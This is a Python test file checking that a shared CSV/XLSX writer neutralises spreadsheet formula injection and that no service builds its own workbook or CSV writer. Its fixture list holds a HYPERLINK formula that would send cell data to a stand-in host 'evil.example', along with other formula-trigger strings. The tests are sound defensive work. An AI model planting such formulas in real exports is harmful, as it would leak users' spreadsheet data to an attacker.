"""The one CSV/XLSX writer: text a spreadsheet program would run as a formula is written so
that it shows as typed; numbers stay numbers."""

from __future__ import annotations

import csv
import io
import pathlib

import pytest
from openpyxl import load_workbook

from shared.xlsx import csv_bytes, xlsx_bytes

EVIL = ['=HYPERLINK("http://evil.example/?d="&A1,"点我")', "+1+1", "-2+3", "@SUM(A1)"]
CONTROL = ["\t=1+1", "\r=1+1"]


def test_formula_text_is_neutralised_in_csv_and_xlsx() -> None:
    row = [*EVIL, *CONTROL, "-4.0", "12", 7, "普通文本"]
    lines = list(
        csv.reader(io.StringIO(csv_bytes(["a"] * len(row), [row]).decode("utf-8-sig"), newline=""))
    )
    assert lines[1] == [
        *("'" + v for v in EVIL + CONTROL),
        "-4.0",
        "12",
        "7",
        "普通文本",
    ]
    book = load_workbook(io.BytesIO(xlsx_bytes([("s", ["=head"], [row])])))
    header, written = book["s"].iter_rows(values_only=True)
    assert header[0] == "'=head"
    # XML reads a CR back as LF; the apostrophe before it is what matters.
    written = [v.replace("\n", "\r") if isinstance(v, str) else v for v in written]
    assert written == [*("'" + v for v in EVIL + CONTROL), "-4.0", "12", 7, "普通文本"]
    assert all(cell.data_type != "f" for cell in book["s"][2])


@pytest.mark.parametrize("part", ["services", "gateway"])
def test_every_spreadsheet_is_written_by_the_shared_writer(part: str) -> None:
    """One writer: no service builds a workbook or a CSV writer of its own."""
    root = pathlib.Path(__file__).parents[2] / part
    own = [
        str(path)
        for path in root.rglob("*.py")
        if "Workbook(" in (text := path.read_text()) or "csv.writer(" in text
    ]
    assert own == []
